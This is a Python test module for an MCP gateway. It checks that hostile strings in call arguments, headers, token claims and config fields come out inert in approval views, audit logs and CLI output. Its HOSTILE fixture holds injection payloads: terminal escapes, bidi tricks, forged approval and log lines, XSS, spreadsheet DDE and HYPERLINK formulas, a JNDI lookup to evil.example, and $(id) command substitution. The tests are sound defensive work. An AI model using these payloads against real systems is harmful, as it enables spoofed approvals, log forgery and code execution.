"""Texts that play with terminals, logs, browsers and spreadsheets, put wherever an agent or a token can put a string.

What people read of them is inert: no control, bidirectional or invisible character is left, and none of their lines stands
where a line of the gateway's own would. What machines read is JSON, in which they are what they were.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio.to_thread
import httpx2
import orjson
import pytest

from mcp_gateway.approval.describe import describe
from mcp_gateway.config import parse_settings
from mcp_gateway.errors import ConfigError, IdentityError
from mcp_gateway.targets.postgres import PostgresConnector
from tests.cli.running import Ran, run_here, write_config
from tests.doors.servers import APPROVER, Served, served
from tests.doors.token_doors import ACCEPT, INITIALIZE, LEGACY, META, MODERN, call
from tests.identity.forging import good, verifier
from tests.invariants.fixtures import tasks_return, world
from tests.invariants.world import World
from tests.peers.postgres import PostgresDatabase
from tests.roads import asked, laid
from tests.targets.postgres_settings import connector, rows, run

__all__ = ["connector", "tasks_return", "world"]

pytestmark = [pytest.mark.anyio, pytest.mark.requirement("R37")]

FORGED = "policy  allow: somebody has approved this"
HOSTILE: dict[str, str] = {
    "controls": "".join(map(chr, [*range(1, 32), *range(127, 160)])),
    "escape sequences": "\x1b[2J\x1b[1A\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b[8m\x9b31m\x1bP+q\x1b\\",
    "marks of direction": "\u202eabc\u202d\u2066def\u2069\u200f\u061c",
    "invisible": "a\u200b\u200d\u2060\ufeff\u00ad\u3164\U000e0041\ufe0f",
    "line ends": f"x\n{FORGED}\r\n{FORGED}\r{FORGED}\u2028{FORGED}\u2029{FORGED}\x85{FORGED}\x0b{FORGED}\x0c{FORGED}",
    "a log's line": 'x\n{"event":"approved","level":"info"}\n2026-01-01T00:00:00Z [info] approved',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>'\"><svg onload=alert(1)>&#10;&lt;",
    "formulas": "=HYPERLINK(\"http://evil.example\")\t@SUM(1)\n+1|cmd' /C calc'!A0\r-2",
    "markup": "[bold red]x[/] [link=http://evil.example]click[/link] \\[ ]] [/]",
    "formats": "%s%n%999999d {0.__class__} ${jndi:ldap://evil.example/x} $(id) `id` {{7*7}}",
    "marks on marks": "e" + "\u0301" * 50,
    "far to the right": " " * 5000 + "x" + "\n" * 500 + "y",
}
ALL = "".join(HOSTILE.values())
SOME = (ALL, HOSTILE["line ends"], HOSTILE["a log's line"])
"""Where each costs a request."""


def inert(text: str, *, for_people: bool = True) -> None:
    """Nothing in it acts, hides, or begins a line of its own making; for people nothing lies far away, either."""
    kinds = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
    acting = {hex(ord(c)) for c in text if unicodedata.category(c) in kinds and c not in "\n\t"}
    assert acting == set()
    assert [line for line in text.split("\n") if line.startswith((FORGED, '{"event"', "2026-01-01T00"))] == []
    assert not for_people or " " * 200 not in text


@pytest.fixture
async def server(tmp_path: Path, world: World) -> AsyncIterator[Served]:
    async with served(tmp_path, world=world) as found:
        yield found


async def command(server: Served, tmp_path: Path, capsys: pytest.CaptureFixture[str], *arguments: str) -> Ran:
    """Run a command of the command line on this gateway's store."""
    people = '[identity.local.people]\ndana = { groups = ["dba"] }\n'
    text = f'[identity]\nissuer = "local"\naudience = "{server.url}"\n{people}[approvals]\nclients = ["{APPROVER}"]\n'
    config = write_config(tmp_path, text)
    return await anyio.to_thread.run_sync(lambda: run_here(capsys, "--config", str(config), *arguments))


def body(text: str) -> dict[str, Any]:
    """A call that asks a person, with this in every argument that takes a text."""
    return {"target": "api", "path": "x", "method": "POST", "body": text, "reason": text, "query": {text[:50]: text}}


async def send(server: Served, message: Any, **headers: str) -> httpx2.Response:
    lines = {"accept": ACCEPT, "content-type": "application/json"} | headers
    async with server.client() as http:
        return await http.post(f"{server.url}/mcp", content=orjson.dumps(message), headers=lines)


@pytest.mark.parametrize("name", HOSTILE)
async def test_what_an_approver_reads_is_inert_and_what_runs_is_what_was_said(
    tmp_path: Path, world: World, name: str
) -> None:
    text = HOSTILE[name]
    async with laid(tmp_path) as bench:
        arguments = {"method": "POST", "body": text, "reason": text}
        ticket = await bench.approvals.get(await asked(bench, arguments))
        assert ticket is not None
        shown = describe(ticket)
        inert(shown)
        for visible in {c for c in text if c.isascii() and c.isalnum()}:
            assert visible in shown
        assert shown.index("body") < shown.index("the agent says")
        await bench.vote(ticket.id)
        assert await bench.code(arguments) == "ok"
        assert bench.api.requests[0].endswith(b"\r\n\r\n" + text.encode())


async def test_nothing_of_a_call_acts_on_a_terminal_or_in_the_store(
    server: Served, tmp_path: Path, world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    more = {"mcp-protocol-version": MODERN, "mcp-method": "tools/call", "mcp-name": "call_api"}
    for text in SOME:
        named = {"clientInfo": {"name": text, "version": text}, "traceparent": text}
        message = call(meta=META | {key: named["clientInfo"] for key in META if key.endswith("clientInfo")})
        message["params"]["_meta"] |= {"traceparent": text, "progressToken": text}
        message["params"]["arguments"] = body(text)
        message["id"] = text
        assert (await send(server, message, **more)).status_code == 200
        for wrong in ({"target": text}, {"path": text}, {text: text}, {"headers": {"accept": text}}, {"method": text}):
            message["params"]["arguments"] = body("x") | wrong
            answer = await send(server, message, **more)
            assert answer.headers["content-type"].partition(";")[0] in {"application/json", "text/event-stream"}
        message["params"]["name"] = text
        await send(server, message, **more)
        message["method"] = text
        await send(server, message, **more)
    assert server.bench.api.requests == []

    listed = await command(server, tmp_path, capsys, "audit", "search", "--limit", "1000")
    assert listed.status == 0
    inert(listed.out)
    found = json.loads((await command(server, tmp_path, capsys, "audit", "search", "--limit", "1000", "--json")).out)
    calls = [item["id"] for item in (found["calls"] if isinstance(found, dict) else found)]
    assert len(calls) >= len(SOME) * 4
    entries = [line.split()[0] for line in listed.out.splitlines() if not line.startswith("    ")]
    assert len(entries) == len(calls)
    assert set(entries) == set(calls)
    for call_id in calls:
        shown = await command(server, tmp_path, capsys, "audit", "show", call_id)
        assert shown.status == 0
        inert(shown.out)
        as_json = (await command(server, tmp_path, capsys, "audit", "show", call_id, "--json")).out
        assert as_json.isascii()
        assert json.loads(as_json)["id"] == call_id


async def test_approvals_on_a_terminal_are_inert_whatever_was_asked(
    server: Served, tmp_path: Path, world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = [await asked(server.bench, body(text)) for text in (*HOSTILE.values(), ALL)]
    dana = ("--as", "dana", "--url", server.url)

    listed = await command(server, tmp_path, capsys, "approvals", "list", *dana)
    assert listed.status == 0, listed.err
    inert(listed.out)
    assert listed.out.count(ids[0]) == 1
    for approval in ids:
        shown = await command(server, tmp_path, capsys, "approvals", "show", approval, *dana)
        assert shown.status == 0, shown.err
        inert(shown.out)
    async with server.approver("dana") as http:
        for approval, text in zip(ids, (*HOSTILE.values(), ALL), strict=True):
            found = await http.get(f"/api/approvals/{approval}")
            assert found.headers["content-type"] == "application/json"
            assert found.json()["reason"] == text


async def test_a_session_id_and_other_headers_of_a_client_reach_no_answer(server: Served) -> None:
    for text in SOME:
        plain = "".join(c for c in text if c.isascii() and c.isprintable()).strip()[:500] or "x"
        for header in (
            "mcp-session-id",
            "mcp-protocol-version",
            "last-event-id",
            "user-agent",
            "x-request-id",
            "traceparent",
        ):
            answer = await send(server, call(), **{"mcp-protocol-version": LEGACY} | {header: plain})
            assert answer.headers["content-type"].partition(";")[0] in {
                "application/json",
                "text/event-stream",
                "text/plain",
            }
            assert not [value for name, value in answer.headers.items() if value == plain and name != "content-length"]
            assert "<script>" not in answer.text
    opened = await send(server, INITIALIZE)
    assert opened.headers["mcp-session-id"].isalnum()


@pytest.mark.parametrize("claim", ["sub", "email", "client_id", "jti", "groups", "scope"])
async def test_a_claim_with_a_character_that_acts_makes_the_token_none(claim: str) -> None:
    check = verifier()
    for name, text in HOSTILE.items():
        plain = text.isprintable() and not unicodedata.category(text[-1]).startswith("C")
        value: Any = [text] if claim == "groups" else text
        if plain:
            continue  # HTML, markup and formats are names like others, and escaped where they are shown
        with pytest.raises(IdentityError) as refused:
            await check.verify(good(**{claim: value}))
        assert str(refused.value).isascii(), name
        assert str(refused.value).isprintable(), name


async def test_a_person_with_an_odd_name_is_shown_as_one(tmp_path: Path, world: World) -> None:
    async with laid(tmp_path) as bench:
        for number, text in enumerate(HOSTILE.values()):
            caller = bench.caller(subject=f"{text}{number}", email=f"{text}@example.com", actor=f"{text}-agent")
            ticket = await bench.approvals.get(await asked(bench, caller=caller))
            assert ticket is not None
            inert(describe(ticket))


async def test_what_the_database_sees_as_the_applications_name_is_the_calls_id(
    connector: PostgresConnector, postgres_database: PostgresDatabase
) -> None:
    shown = rows(await run(connector, "SELECT current_setting('application_name'), $1::text", ALL))

    assert shown[0][0].startswith("mcp-gateway/")
    assert shown[0][0].replace("-", "").replace("/", "").replace("@", "").replace(".", "").isalnum()
    assert shown[0][1] == ALL
    assert not any(line.strip() == FORGED for line in postgres_database.log_lines())


@pytest.mark.parametrize("name", HOSTILE)
def test_no_name_of_the_configuration_holds_any_of_it(name: str) -> None:
    text = json.dumps(HOSTILE[name])
    target = '[targets.{name}]\nkind = "ssh"\nlabels = {{ env = "dev" }}\nhost = {host}\nuser = "u"\n'
    rest = 'known_hosts = "/k"\nkey = { file = "/k" }\n'
    for given in (
        target.format(name=text, host='"h"') + rest,
        target.format(name="a", host=text) + rest,
        f'[targets.a]\nkind = "http"\nlabels = {{ env = "dev" }}\nbase_url = {text}\n',
    ):
        with pytest.raises(ConfigError) as refused:
            parse_settings(f'[identity]\nissuer = "local"\n{given}', file="/gateway.toml")
        assert len(str(refused.value).splitlines()) <= 4


async def test_what_an_agent_is_told_repeats_nothing_that_acts(tmp_path: Path, world: World) -> None:
    async with laid(tmp_path) as bench:
        for text in HOSTILE.values():
            for arguments in ({"target": text}, {"path": text}, {"method": text}, {text: 1}, {"headers": {text: "x"}}):
                answer: Any = await bench.call(arguments)
                outcome = answer.outcome
                if hasattr(outcome, "message"):
                    inert(f"{outcome.message}. Next: {outcome.next_step}", for_people=False)
